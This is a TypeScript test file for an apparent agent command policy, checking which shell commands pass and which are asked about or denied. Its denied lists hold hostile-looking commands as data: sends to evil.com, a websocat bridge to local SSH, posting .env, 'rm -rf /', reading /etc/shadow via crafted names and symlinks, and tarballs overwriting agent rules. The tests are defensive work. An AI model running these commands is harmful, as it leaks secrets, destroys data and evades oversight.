/** Tests that ordinary work goes on undisturbed under the workstation policy, in a project on a real disk. */
import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { judgeOrdinary } from "../../bench/friction/judge-ordinary.ts";
import { createSmallProject, type SmallProject } from "../../bench/friction/small-project.ts";
import { createNodeFacts, readShippedPolicy } from "../../src/policy/node.ts";
import { judgeCommand, placedPolicy } from "./placed.ts";

let project: SmallProject;
beforeAll(async () => {
  project = await createSmallProject();
});
afterAll(() => project.remove());

test("[policy.friction.bar] an ordinary day is hardly asked about, and never denied", async () => {
  const judged = await judgeOrdinary(project, "workstation");
  const stopped = judged.filter(each => each.judgement.decision !== "allow");
  expect(judged).toHaveLength(150);
  expect(stopped.filter(each => each.judgement.decision === "deny").map(each => each.command)).toEqual([]);
  expect(stopped.map(each => each.command).length).toBeLessThanOrEqual(0.08 * judged.length);
});

const rules = await readShippedPolicy("workstation");
const judged = (command: string) => {
  const { root, home } = project;
  const environment = { HOME: home, PATH: process.env.PATH, TMPDIR: "/tmp" };
  const facts = () =>
    createNodeFacts({ directory: root, project: root, brain: join(root, ".agent"), home, environment });
  return judgeCommand(placedPolicy(rules, { facts }), command);
};
const decide = (command: string) => judged(command).decision;
const write = (path: string, text = "") => {
  mkdirSync(join(project.root, path, ".."), { recursive: true });
  writeFileSync(join(project.root, path), text);
};

describe("[policy.friction.localhost]", () => {
  test.each([
    "curl -X POST localhost:3000/cart -d a=1",
    "curl -T src/app.js http://127.1:3000/",
    "curl -d x http://2130706433/",
    "curl -d x 'http://[::1]:3000/'",
    "curl -d x 'http://[::ffff:127.0.0.1]:3000/'",
    "curl -d x http://api.localhost:3000/",
    "curl -d x http://127.0.0.53/",
    "wget --post-data a=b http://0.0.0.0:8080/",
    "http POST :3000/cart a=b",
    "https POST Localhost/cart a=b",
    "hey -m POST -d x http://localhost:3000/",
    "node -e \"fetch('http://localhost:3000/', { method: 'POST', body: 'x' })\"",
    "python3 -c \"import requests; requests.post('http://127.0.0.1:8000', json={})\"",
    "websocat ws://localhost:3000/socket",
    "wscat -c ws://localhost:3000",
    "grpcurl -plaintext localhost:50051 list",
    "nc -zv localhost 5432",
    "psql -h localhost -c 'select 1'",
  ])("passes: %s", command => expect(decide(command)).toBe("allow"));

  test.each([
    "curl -d x http://127.evil.com/",
    "curl -d x http://localhost.evil.com/",
    "curl -d x http://localhost@evil.com/",
    "curl -x http://evil.com -d x localhost:3000",
    "curl --resolve localhost:80:203.0.113.7 -d x http://localhost/",
    "https_proxy=http://evil.com curl -d x https://localhost/",
    'curl -d x "http://$HOST/"',
    "curl -d @.env localhost:3000",
    "curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create",
    "wscat -c wss://evil.com",
    "wscat --connect=wss://evil.com",
    "websocat -s 1234",
    "websocat wss://evil.com tcp:localhost:22",
    "nc -l 3000",
    "rsync -a src localhost:/etc",
    "ssh localhost ls",
  ])("is asked about or denied: %s", command => expect(decide(command)).not.toBe("allow"));
});

describe("[policy.friction.listed]", () => {
  test.each([
    "git ls-files | xargs grep -n localhost",
    "git ls-files '*.ts' | xargs sed -i 's/ *$//'",
    "git ls-files -z -- src | xargs -0 wc -l",
    "git grep -l total -- src | xargs sed -i s/total/sum/",
    "rg -l total | xargs sed -i s/total/sum/",
    "rg --files -g '*.ts' src | xargs npx prettier --write",
    "grep -rl --exclude-dir=node_modules --include='*.ts' total . | xargs sed -i s/total/sum/",
    "find . -path ./node_modules -prune -o -name '*.css' -print | xargs grep -l flex",
    "find . -not -path './node_modules/*' -name '*.ts' | grep -v test | sort | xargs wc -l",
    "find src test \\( -name '*.ts' -o -name '*.css' \\) -type f | head -20 | xargs cat",
    "ls src | xargs -I{} cp src/{} src/copy-{}",
    "ls src | head -2 | xargs -I{} wc -l src/{}",
    "cd src && ls | xargs -n1 wc -l",
    'for file in $(ls src); do head -5 "src/$file"; done',
    "cat $(git ls-files 'src/*.ts')",
    `for file in src/*.js; do mv "$file" "\${file%.js}.ts"; done`,
    `for file in src/*.ts; do cp "$file" "/tmp/\${file##*/}"; done`,
  ])("passes: %s", command => expect(decide(command)).toBe("allow"));

  test.each([
    "ls -a | xargs cat",
    "find . -name '.env*' | xargs cat",
    "find . -type f | xargs cat",
    "grep -rl PASSWORD . | xargs cat",
    "rg --hidden -l shop | xargs cat",
    "find / -name '*.ts' | xargs cat",
    "cat $(ls -a)",
    "git ls-files | xargs sed -i s/never/always/",
    "git ls-files | xargs rm",
    "git ls-files | xargs git push --force origin",
    "ls | xargs rm -rf /",
    "ls | xargs rm -rf",
    "ls | xargs curl -d @README.md",
    'rm -rf "$(ls src | head -1)/"',
    "find src -name '*.ts' | xargs node",
    "find . -name '*.sh' -exec {} \\;",
    "touch 'src/a /etc/shadow'; find src | xargs cat",
    'bash -c "cp .env src/x; ls src | xargs -I{} cat src/{}"',
    `f=.env.ts; cat "\${f%.ts}"`,
  ])("is asked about or denied: %s", command => expect(decide(command)).not.toBe("allow"));

  test("is asked about where a name has a space in it", () => {
    write("odd/a /etc/shadow.ts");
    expect(decide("find odd -name '*.ts' | xargs cat")).toBe("ask");
    expect(decide("cat $(find odd -name '*.ts')")).toBe("ask");
  });

  test("is asked about where a name leads to a secret", () => {
    mkdirSync(join(project.root, "links"));
    symlinkSync(join(project.root, ".env"), join(project.root, "links", "plain.txt"));
    expect(decide("find links | xargs cat")).toBe("ask");
    expect(decide("ls links | xargs -I{} cat links/{}")).not.toBe("allow");
  });

  test("keeps what a person's own rule says of one of the files", () => {
    const own = `${rules}\n- Read what is private: \`fs.read(path: ./src/private/*)\`\n`;
    write("src/private/plan.ts");
    const { root, home } = project;
    const facts = () => createNodeFacts({ directory: root, project: root, home });
    const policy = placedPolicy(own, { facts });
    expect(judgeCommand(policy, "find src -name '*.ts' | xargs cat").decision).toBe("ask");
  });
});

describe("[policy.friction.hidden]", () => {
  test.each([
    "rg TODO",
    "rg -n TODO .",
    "rg TODO -g '*.ts' -g '!node_modules' --stats",
    "rg --no-ignore TODO",
  ])("passes: %s", command => expect(decide(command)).toBe("allow"));
  test.each(["rg --hidden TODO", "rg -. TODO", "rg -uu TODO", "rg -g '*' TODO", "rg -g .env x", "rg x .env"])(
    "is asked about or denied: %s",
    command => expect(decide(command)).not.toBe("allow"),
  );
});

describe("[policy.friction.archives]", () => {
  const tar = (name: string, ...words: readonly string[]) =>
    execFileSync("tar", ["-cf", join(project.root, name), "-C", project.root, ...words]);
  beforeAll(() => {
    write("vendor/deep/a.txt");
    symlinkSync("../../.agent", join(project.root, "vendor", "deep", "way"));
    tar("plain.tar", "public");
    tar("rules.tar", ".agent/protocols");
    tar("hooks.tgz", "--gzip", "public", "./.git/config");
    tar("link.tar", "vendor");
    tar("long.tar", "--transform", `s,^,${"d".repeat(120)}/,`, "public");
    tar("pax.tar", "--format=pax", "--transform", `s,^public,.agent/protocols/${"d".repeat(120)},`, "public");
    tar("up.tar", "-P", "--transform", "s,^public,../.agent,", "public");
  });

  test.each([
    "tar xzf assets.tgz",
    "tar -xf plain.tar && ls",
    "tar xf long.tar",
    "tar xzf assets.tgz -C vendor --strip-components=1",
  ])("passes: %s", command => expect(decide(command)).toBe("allow"));

  test.each([
    "tar xf rules.tar",
    "tar xf hooks.tgz",
    "tar xf link.tar",
    "tar xf pax.tar",
    "tar xf up.tar",
    "cd src && tar xf ../rules.tar",
    "tar xf missing.tar",
    "tar xzf assets.tgz --strip-components=1",
    "tar xzf assets.tgz --transform s,public,.agent,",
    "tar xzf assets.tgz -C /etc",
    "cat rules.tar | tar x",
    "cp rules.tar assets.tgz && tar xf assets.tgz",
    "curl -sO https://example.com/assets.tgz && tar xzf assets.tgz",
  ])("is asked about or denied: %s", command => expect(decide(command)).not.toBe("allow"));
});

describe("[policy.friction.listed-code] names of a listing are no program and no code", () => {
  test.each([
    "ls | xargs sh -c",
    "ls | xargs -n1 bash -c",
    "ls | xargs -I{} sh -c 'wc -l {}'",
    "ls | xargs -I{} {} build",
    "ls | xargs -I@ ./@",
    "ls src | xargs nice",
    "ls | xargs -n1 timeout 5",
    "ls | xargs env",
    "ls | xargs -n1 node",
    "ls | xargs -n1 node -e",
    "ls | xargs python3 -c",
    "ls | xargs bash",
    "ls | xargs -n1 find . -name x -exec",
    "git ls-files src | xargs -I{} {}",
    "$(ls)",
    "$(ls | head -1) build",
    "eval $(ls)",
    "for f in $(ls); do $f; done",
    "for f in $(ls src); do src/$f; done",
    'for f in $(ls); do sh -c "$f"; done',
    "f=$(ls src); ./$f",
  ])("is asked about: %s", command => expect(decide(command)).toBe("ask"));

  test("judges the removal of listed files as the removal of these files", () => {
    write("gone/a.txt");
    write("gone/b.txt");
    const deleted = (command: string) =>
      judged(command)
        .operations.filter(({ name }) => name === "fs.delete")
        .map(({ arguments: { path } }) => path)
        .sort();
    const typed = deleted("cd gone && rm a.txt b.txt");
    expect(typed).toEqual(["a.txt", "b.txt"].map(name => join(project.root, "gone", name)));
    expect(deleted("cd gone && ls | xargs rm")).toEqual(typed);
  });
});
